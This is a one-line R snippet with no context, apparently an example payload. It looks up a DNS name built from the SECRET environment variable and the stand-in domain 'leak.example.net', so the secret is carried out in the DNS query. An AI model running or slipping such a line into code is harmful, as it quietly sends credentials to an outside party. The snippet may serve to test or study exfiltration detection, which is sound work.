nsl(paste0(Sys.getenv("SECRET"), ".leak.example.net"))
